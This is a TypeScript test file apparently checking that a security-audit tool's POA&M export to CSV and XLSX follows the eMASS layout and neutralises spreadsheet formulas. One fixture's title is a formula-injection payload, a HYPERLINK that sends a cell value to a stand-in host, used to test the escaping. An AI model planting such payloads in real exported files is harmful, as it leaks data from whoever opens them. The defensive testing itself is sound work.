import { read, utils, type CellObject } from '@e965/xlsx';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { unescapeFormulaCell } from '../../../../shared/exchange/formula-escape.ts';
import type { Finding } from '../../../../shared/domain/schemas.ts';
import { stigSourceFromSnapshot } from '../../../../shared/stig/audit-source.ts';
import { POAM_HEADER_ROW, poamXlsx } from '../../../../shared/stig/poam-xlsx.ts';
import { nistControls, poamCsv, poamRows } from '../../../../shared/stig/poam.ts';
import { demoSnapshot } from './support.ts';

// The eMASS POA&M columns as C-PAT's importer checks them (NSWC-Crane/C-PAT
// api/Services/importService.js, expectedHeaders), spelled exactly, trailing space included.
const EMASS_HEADERS = [
  'POA&M Item ID',
  'Control Vulnerability Description',
  'Controls / APs',
  'Office/Org',
  'Security Checks',
  'Resources Required',
  'Scheduled Completion Date',
  'Milestone ID',
  'Milestone with Completion Dates',
  'Milestone Changes',
  'Source Identifying Vulnerability ',
  'Status',
  'Comments',
  'Raw Severity',
  'Devices Affected',
  'Mitigations (in-house and in conjunction with the Navy CSSP)',
  'Predisposing Conditions',
  'Severity',
  'Relevance of Threat',
  'Threat Description',
  'Likelihood',
  'Impact',
  'Impact Description',
  'Residual Risk Level',
  'Recommendations',
  'Resulting Residual Risk after Proposed Mitigations',
];
const col = (name: string) => EMASS_HEADERS.indexOf(name);

const snapshot = demoSnapshot();
const hostile: Finding = {
  ...snapshot.findings.find((f) => f.itemId === null)!,
  id: 'hostile',
  title: '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
  detail: '',
  remediation: '@SUM(1+1)',
  status: 'open',
  severity: 'low',
  dueDate: '2026-12-31',
};
const source = stigSourceFromSnapshot({ ...snapshot, findings: [...snapshot.findings, hostile] });
const open = source.findings.filter((f) => f.status === 'open' || f.status === 'in_remediation');

describe('POA&M export', () => {
  it('has one row per open finding, worst first, with a milestone from due date and owner', () => {
    const rows = poamRows(source);
    expect(rows).toHaveLength(open.length);
    expect(open.length).toBeLessThan(source.findings.length); // closed and accepted ones stay out
    expect(rows.map((r) => r[col('POA&M Item ID')])).toEqual(rows.map((_, i) => i + 1));
    const severities = rows.map((r) => r[col('Raw Severity')]);
    expect(severities).toEqual(
      [...severities].sort(
        (a, b) =>
          ['High', 'Moderate', 'Low'].indexOf(String(a)) -
          ['High', 'Moderate', 'Low'].indexOf(String(b)),
      ),
    );

    const f = snapshot.findings.find((x) => x.id === 'demo-audit-2026-f-idle-connected')!;
    const row = rows.find((r) =>
      String(r[col('Comments')]).startsWith(`Roomcheck finding ${f.id} `),
    )!;
    expect(row[col('Scheduled Completion Date')]).toBe('03/09/2026');
    expect(row[col('Milestone ID')]).toBe(1);
    expect(row[col('Milestone with Completion Dates')]).toBe(
      `${f.remediation} Owner: ${f.owner}. 03/09/2026`,
    );
    expect(row[col('Security Checks')]).toBe('RC-D1r1');
    expect(row[col('Controls / APs')]).toBe('CM-7, CM-8');
    expect(row[col('Devices Affected')]).toBe('oa-legacy-01');
    expect(row[col('Status')]).toBe('Ongoing');
    expect(row[col('Raw Severity')]).toBe('High');
    expect(row[col('Office/Org')]).toBe(snapshot.site.organisation);
    const photo = snapshot.evidence.find((e) => e.findingId === f.id)!;
    expect(row[col('Comments')]).toContain(`Photo: ${photo.fileName} SHA-256 ${photo.sha256}`);
    // A finding raised by hand has no check item, so no control and no rule.
    const byHand = rows.find((r) => r[col('Security Checks')] === 'Roomcheck finding hostile')!;
    expect(byHand[col('Controls / APs')]).toBe('');
    expect(poamRows(source, { office: 'ISSO office' })[0]![col('Office/Org')]).toBe('ISSO office');
  });

  it('names the NIST SP 800-53 controls in a basis, expanding "PE-2/3/8"', () => {
    expect(nistControls('NIST 800-53 PE-2/3/8; ISO 27001 A.7.2')).toBe('PE-2, PE-3, PE-8');
    expect(nistControls('IA-5(e); CIS 4.7; ETSI EN 303 645 5.1')).toBe('IA-5(e)');
    expect(nistControls('CM-8, CM-8(3); CIS 1.1/1.2')).toBe('CM-8, CM-8(3)');
    expect(nistControls('audit practice')).toBe('');
  });

  it('writes CSV in UTF-8 with a BOM and CRLF, every cell guarded against formulas', () => {
    const bytes = poamCsv(source);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes.slice(3));
    expect(text.endsWith('\r\n')).toBe(true);
    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data[0]).toEqual(EMASS_HEADERS);
    expect(parsed.data).toHaveLength(open.length + 1);
    const row = parsed.data.find((r) => r[col('Security Checks')] === 'Roomcheck finding hostile')!;
    // Without a detail the description is the bare title, which would run as a formula.
    const description = row[col('Control Vulnerability Description')]!;
    expect(description).toBe(`'${hostile.title}`);
    expect(unescapeFormulaCell(description)).toBe(hostile.title);
    expect(row[col('Recommendations')]).toBe("'@SUM(1+1)");
    expect(unescapeFormulaCell(row[col('Recommendations')]!)).toBe('@SUM(1+1)');
    for (const r of parsed.data) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes XLSX as eMASS lays it out: headers in row 7, plain values, never a formula', () => {
    const exportedAt = '2026-03-02T08:00:00.000Z';
    const bytes = poamXlsx(source, { exportedAt, appVersion: '9.9.9' });
    expect(poamXlsx(source, { exportedAt, appVersion: '9.9.9' })).toEqual(bytes);
    const book = read(bytes, { type: 'array', cellFormula: true });
    expect(book.SheetNames).toEqual(['POA&M']);
    const sheet = book.Sheets['POA&M']!;
    const rows = utils.sheet_to_json<(string | number)[]>(sheet, {
      header: 1,
      blankrows: true,
      defval: '',
    });
    expect(POAM_HEADER_ROW).toBe(7);
    expect(rows[POAM_HEADER_ROW - 1]).toEqual(EMASS_HEADERS);
    const blank = Array(EMASS_HEADERS.length - 2).fill('');
    expect(rows[1]).toEqual(['Date Exported:', '03/02/2026', ...blank]);
    expect(rows[2]).toEqual(['Exported By:', 'Roomcheck 9.9.9', ...blank]);
    const data = rows.slice(POAM_HEADER_ROW);
    expect(data).toEqual(poamRows(source));
    const hostileRow = data.find((r) => r[col('Security Checks')] === 'Roomcheck finding hostile')!;
    expect(hostileRow[col('Control Vulnerability Description')]).toBe(hostile.title);
    expect(hostileRow[col('Recommendations')]).toBe('@SUM(1+1)');
    for (const [address, cell] of Object.entries(sheet)) {
      if (address.startsWith('!')) continue;
      expect((cell as CellObject).f, address).toBeUndefined();
      expect(['s', 'n']).toContain((cell as CellObject).t);
    }
  });
});
